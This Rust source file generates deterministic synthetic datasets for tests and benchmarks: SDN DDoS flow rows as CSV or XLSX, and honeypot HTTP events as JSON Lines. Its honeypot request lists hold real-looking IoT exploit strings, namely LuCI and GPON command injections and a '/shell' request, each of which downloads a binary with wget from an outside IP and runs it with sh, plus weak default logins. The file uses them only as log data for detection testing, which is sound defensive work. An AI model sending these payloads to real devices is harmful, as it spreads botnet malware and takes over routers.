//! Deterministic generator of realistic datasets for the tests and benchmarks: SDN DDoS flows
//! (the public "DDoS SDN dataset" column layout) as CSV or XLSX, and honeypot events as JSON
//! Lines (the layout of `samples/honeypot-sample.jsonl`). Every file is a pure function of
//! (shape, rows, seed): the same arguments give the same bytes on any machine.

use std::io::{BufWriter, Write};
use std::path::{Path, PathBuf};

pub(crate) const DEFAULT_SEED: u64 = 20_240_601;

pub(crate) const SDN_COLUMNS: [&str; 23] = [
    "dt",
    "switch",
    "src",
    "dst",
    "pktcount",
    "bytecount",
    "dur",
    "dur_nsec",
    "tot_dur",
    "flows",
    "packetins",
    "pktperflow",
    "byteperflow",
    "pktrate",
    "Pairflow",
    "Protocol",
    "port_no",
    "tx_bytes",
    "rx_bytes",
    "tx_kbps",
    "rx_kbps",
    "tot_kbps",
    "label",
];

/// SplitMix64: small, fast, and the same sequence everywhere.
pub(crate) struct Rng(u64);

impl Rng {
    pub(crate) fn new(shape: &str, seed: u64) -> Self {
        let mut state = seed ^ 0x9E37_79B9_7F4A_7C15;
        for b in shape.bytes() {
            state = (state ^ u64::from(b)).wrapping_mul(0x100_0000_01B3);
        }
        Rng(state)
    }

    pub(crate) fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in [0, 1).
    pub(crate) fn unit(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }

    /// Uniform in `lo..=hi`.
    pub(crate) fn int(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.next_u64() % (hi - lo + 1)
    }

    pub(crate) fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.next_u64() as usize % items.len()]
    }

    /// An index drawn with the given weights.
    pub(crate) fn weighted(&mut self, weights: &[u64]) -> usize {
        let mut r = self.next_u64() % weights.iter().sum::<u64>();
        for (i, w) in weights.iter().enumerate() {
            if r < *w {
                return i;
            }
            r -= w;
        }
        weights.len() - 1
    }
}

/// One SDN cell: a number, a text, or blank (the real file has blank `rx_kbps`/`tot_kbps`).
#[derive(Clone, Debug)]
pub(crate) enum Cell {
    Int(u64),
    Float(f64),
    Text(String),
    Blank,
}

struct Flow {
    switch: u64,
    src: String,
    dst: String,
    proto: &'static str,
    label: u64,
    rate: u64,
    pkt_size: u64,
    dur: u64,
    pktcount: u64,
    tx_bytes: u64,
    rx_bytes: u64,
}

/// `n` SDN rows in [`SDN_COLUMNS`] order. Hosts 10.0.0.1-20 behind switches 1-10, flows seen
/// over several 30 s ticks, about 40 % of the flows attacks (label 1), 1 % of rows with blanks.
pub(crate) fn sdn_rows(n: u64, seed: u64) -> impl Iterator<Item = Vec<Cell>> {
    let mut rng = Rng::new("sdn", seed);
    let mut flows: Vec<Flow> = Vec::new();
    let mut dt_tick: u64 = 3000;
    (0..n).map(move |_| {
        if flows.is_empty() || rng.unit() < 0.15 {
            let label = u64::from(rng.unit() < 0.4);
            let proto = ["UDP", "TCP", "ICMP"][rng.weighted(&[38, 30, 32])];
            let src_host = rng.int(1, 20);
            let mut dst_host = rng.int(1, 20);
            while dst_host == src_host {
                dst_host = rng.int(1, 20);
            }
            let rate = if label == 1 {
                rng.int(300, 1200)
            } else {
                rng.int(5, 320)
            };
            let pkt_size = if label == 1 {
                if proto == "TCP" { 1122 } else { 1066 }
            } else {
                *rng.pick(&[98, 1066, 1122, 70])
            };
            flows.push(Flow {
                switch: rng.int(1, 10),
                src: format!("10.0.0.{src_host}"),
                dst: format!("10.0.0.{dst_host}"),
                proto,
                label,
                rate,
                pkt_size,
                dur: rng.int(0, 120),
                pktcount: 0,
                tx_bytes: rng.int(3000, 20000),
                rx_bytes: rng.int(3000, 20000),
            });
            if flows.len() > 40 {
                flows.remove(0);
            }
        }
        let i = rng.next_u64() as usize % flows.len();
        dt_tick += *rng.pick(&[0, 0, 0, 30, 30, 60]);
        let jitter = 0.85 + rng.unit() * 0.3;
        let dur_nsec = rng.int(0, 999) * 1_000_000;
        let port_no = rng.int(1, 5);
        let f = &mut flows[i];
        f.dur += 30;
        let pktperflow = (f.rate as f64 * 30.0 * jitter) as u64;
        f.pktcount += pktperflow;
        let byteperflow = pktperflow * f.pkt_size;
        let bytecount = f.pktcount * f.pkt_size;
        let tot_dur = (f.dur * 1_000_000_000 + dur_nsec) as f64;
        let (tx_kbps, rx_kbps) = if f.label == 1 {
            (rng.int(0, 30000), rng.int(0, 30000))
        } else {
            (rng.int(0, 300), rng.int(0, 300))
        };
        f.tx_bytes += tx_kbps * 1000 / 8 * 30;
        f.rx_bytes += rx_kbps * 1000 / 8 * 30;
        let (rx_out, tot_out) = if rng.unit() < 0.01 {
            (Cell::Blank, Cell::Blank)
        } else {
            (Cell::Int(rx_kbps), Cell::Int(tx_kbps + rx_kbps))
        };
        let flows_n = rng.int(2, 17);
        let packetins = rng.int(4, 25224);
        let pairflow = rng.int(0, 1);
        vec![
            Cell::Int(dt_tick),
            Cell::Int(f.switch),
            Cell::Text(f.src.clone()),
            Cell::Text(f.dst.clone()),
            Cell::Int(f.pktcount),
            Cell::Int(bytecount),
            Cell::Int(f.dur),
            Cell::Int(dur_nsec),
            Cell::Float(tot_dur),
            Cell::Int(flows_n),
            Cell::Int(packetins),
            Cell::Int(pktperflow),
            Cell::Int(byteperflow),
            Cell::Int(pktperflow / 30),
            Cell::Int(pairflow),
            Cell::Text(f.proto.to_string()),
            Cell::Int(port_no),
            Cell::Int(f.tx_bytes),
            Cell::Int(f.rx_bytes),
            Cell::Int(tx_kbps),
            rx_out,
            tot_out,
            Cell::Int(f.label),
        ]
    })
}

pub(crate) fn write_sdn_csv(path: &Path, n: u64, seed: u64) -> std::io::Result<()> {
    let mut out = BufWriter::new(std::fs::File::create(path)?);
    writeln!(out, "{}", SDN_COLUMNS.join(","))?;
    for row in sdn_rows(n, seed) {
        for (i, cell) in row.iter().enumerate() {
            if i > 0 {
                out.write_all(b",")?;
            }
            match cell {
                Cell::Int(v) => write!(out, "{v}")?,
                // As Python writes a whole float: `45006000000.0`.
                Cell::Float(v) => write!(out, "{v:.1}")?,
                Cell::Text(s) => out.write_all(s.as_bytes())?,
                Cell::Blank => {}
            }
        }
        out.write_all(b"\n")?;
    }
    out.flush()
}

pub(crate) fn write_sdn_xlsx(path: &Path, n: u64, seed: u64) -> std::io::Result<()> {
    use rust_xlsxwriter::{DocProperties, ExcelDateTime, Workbook};
    let err = |e: rust_xlsxwriter::XlsxError| std::io::Error::other(e.to_string());
    let mut wb = Workbook::new();
    // Pinned document times: the same rows give the same file.
    let fixed = ExcelDateTime::from_ymd(2024, 6, 1).map_err(err)?;
    wb.set_properties(&DocProperties::new().set_creation_datetime(&fixed));
    let ws = wb.add_worksheet_with_constant_memory().map_err(err)?;
    ws.set_name("Sheet1").map_err(err)?;
    for (c, name) in SDN_COLUMNS.iter().enumerate() {
        ws.write_string(0, c as u16, *name).map_err(err)?;
    }
    for (r, row) in sdn_rows(n, seed).enumerate() {
        let r = r as u32 + 1;
        for (c, cell) in row.iter().enumerate() {
            let c = c as u16;
            match cell {
                Cell::Int(v) => ws.write_number(r, c, *v as f64).map(|_| ()),
                Cell::Float(v) => ws.write_number(r, c, *v).map(|_| ()),
                Cell::Text(s) => ws.write_string(r, c, s).map(|_| ()),
                Cell::Blank => Ok(()),
            }
            .map_err(err)?;
        }
    }
    wb.save(path).map_err(err)
}

const PUBLIC_SRCS: [&str; 25] = [
    "173.214.166.170",
    "185.91.127.166",
    "185.36.81.33",
    "95.214.55.115",
    "154.209.125.131",
    "103.203.57.7",
    "45.95.147.236",
    "194.26.192.64",
    "89.248.165.52",
    "162.142.125.221",
    "167.94.138.35",
    "198.235.24.18",
    "205.210.31.165",
    "64.62.197.112",
    "184.105.139.70",
    "47.92.140.214",
    "120.46.79.12",
    "218.92.0.107",
    "61.177.172.160",
    "122.189.32.53",
    "109.205.213.30",
    "80.94.95.115",
    "138.197.148.152",
    "159.203.192.17",
    "20.163.14.84",
];
/// The honeypot's NAT address, seen on some SYN records.
const NAT_SRC: &str = "192.168.0.238";
const DSTS: [&str; 4] = [
    "101.33.192.242",
    "101.33.192.242",
    "101.33.192.242",
    "43.139.51.7",
];
const USER_AGENTS: [&str; 8] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.85 Safari/537.36 Edg/90.0.818.46",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:71.0) Gecko/20100101 Firefox/71.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.11; rv:47.0) Gecko/20100101 Firefox/47.0",
    "HTTP Banner Detection (https://security.ipip.net)",
    "Mozilla/5.0 zgrab/0.x",
    "curl/7.68.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
];
/// (request, path without its query).
const GET_TARGETS: [(&str, &str); 12] = [
    ("/", "/"),
    ("/", "/"),
    ("/", "/"),
    ("/favicon.ico", "/favicon.ico"),
    ("/robots.txt", "/robots.txt"),
    ("/.env", "/.env"),
    ("/wp-login.php", "/wp-login.php"),
    (
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget -O- http://45.95.147.236/t|sh`)",
        "/cgi-bin/luci/;stok=/locale",
    ),
    (
        "/shell?cd+/tmp;rm+-rf+*;wget+http://89.248.165.52/jaws;sh+/tmp/jaws",
        "/shell",
    ),
    ("/HNAP1/", "/HNAP1/"),
    ("/actuator/health", "/actuator/health"),
    ("/boaform/admin/formLogin", "/boaform/admin/formLogin"),
];
/// (request, body).
const POST_TARGETS: [(&str, &str); 3] = [
    ("/boaform/admin/formLogin", "username=admin&psd=Feefifofum"),
    (
        "/GponForm/diag_Form?images/",
        "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://194.26.192.64/bins/mips;sh+mips`;&ipv=0",
    ),
    ("/login", "username=root&password=123456"),
];

/// `n` honeypot events: sessions of a TCP SYN record (from the NAT address or the attacker)
/// usually followed by an HTTP GET or POST from the attacker with a payload object and a URL.
pub(crate) fn honeypot_records(n: u64, seed: u64) -> Vec<serde_json::Value> {
    use serde_json::json;
    let mut rng = Rng::new("honeypot", seed);
    let mut t = 1_697_326_037.992_695_f64;
    let mut out = Vec::with_capacity(n as usize);
    let round7 = |t: f64| (t * 1e7).round() / 1e7;
    while (out.len() as u64) < n {
        t += -(1.0 - rng.unit()).ln() * 40.0;
        let src = *rng.pick(&PUBLIC_SRCS);
        let dst = *rng.pick(&DSTS);
        let sport = rng.int(32768, 60999);
        let dport = [80, 8080, 443, 81][rng.weighted(&[85, 8, 4, 3])];
        let syn_src = if rng.unit() < 0.5 { NAT_SRC } else { src };
        out.push(json!({
            "time": round7(t), "src": syn_src, "dst": dst, "device_type": "蜜点",
            "sub_device_type": "外蜜点", "protocol": "TCP", "sport": sport, "dport": dport,
            "action": "TCP", "payload": {}, "url": null, "attack": "尝试SYN握手",
        }));
        if out.len() as u64 >= n || rng.unit() < 0.12 {
            continue; // some scanners never send a request
        }
        t += 0.0001 + rng.unit() * 0.0039;
        let mut payload = serde_json::Map::new();
        if rng.unit() < 0.6 {
            payload.insert("User_Agent".into(), json!(rng.pick(&USER_AGENTS)));
        }
        let xff = if rng.unit() < 0.5 {
            src.to_string()
        } else {
            format!("{src}, {src}")
        };
        payload.insert("X_Forwarded_For".into(), json!(xff));
        let (url, action, attack) = if rng.unit() < 0.85 {
            let (get, url) = *rng.pick(&GET_TARGETS);
            payload.insert("GET".into(), json!(get));
            (url.to_string(), "HTTP_GET", "HTTP GET请求访问")
        } else {
            let (url, body) = *rng.pick(&POST_TARGETS);
            payload.insert("GET".into(), json!(url));
            payload.insert("POST".into(), json!(body));
            (
                url.split('?').next().unwrap_or(url).to_string(),
                "HTTP_POST",
                "HTTP POST请求访问",
            )
        };
        out.push(json!({
            "time": round7(t), "src": src, "dst": dst, "device_type": "蜜点",
            "sub_device_type": "外蜜点", "protocol": "HTTP", "sport": sport, "dport": dport,
            "action": action, "payload": payload, "url": url, "attack": attack,
        }));
    }
    out
}

pub(crate) fn write_honeypot_jsonl(path: &Path, n: u64, seed: u64) -> std::io::Result<()> {
    let mut out = BufWriter::new(std::fs::File::create(path)?);
    for rec in honeypot_records(n, seed) {
        serde_json::to_writer(&mut out, &rec)?;
        out.write_all(b"\n")?;
    }
    out.flush()
}

/// The file name a format's dataset of `rows` rows gets: `sdn_N.csv`, `sdn_N.xlsx`,
/// `honeypot_N.jsonl`.
pub(crate) fn file_name(format: &str, rows: u64) -> String {
    match format {
        "jsonl" => format!("honeypot_{rows}.jsonl"),
        "csv" | "xlsx" => format!("sdn_{rows}.{format}"),
        other => panic!("unknown dataset format {other:?} (csv, xlsx, jsonl)"),
    }
}

/// Writes the datasets of `formats` with `rows` rows into `dir` (kept when already there:
/// the files are a pure function of their name) and returns the folder.
pub(crate) fn generate_into(dir: &Path, rows: u64, formats: &[&str]) -> PathBuf {
    std::fs::create_dir_all(dir).unwrap();
    for format in formats {
        let path = dir.join(file_name(format, rows));
        if path.exists() {
            continue;
        }
        // Written aside and renamed: tests running at once never read a half-written file.
        let tmp = tempfile::NamedTempFile::new_in(dir).unwrap();
        match *format {
            "csv" => write_sdn_csv(tmp.path(), rows, DEFAULT_SEED),
            "xlsx" => write_sdn_xlsx(tmp.path(), rows, DEFAULT_SEED),
            _ => write_honeypot_jsonl(tmp.path(), rows, DEFAULT_SEED),
        }
        .unwrap_or_else(|e| panic!("generating {}: {e}", path.display()));
        tmp.persist(&path).unwrap();
    }
    dir.to_path_buf()
}
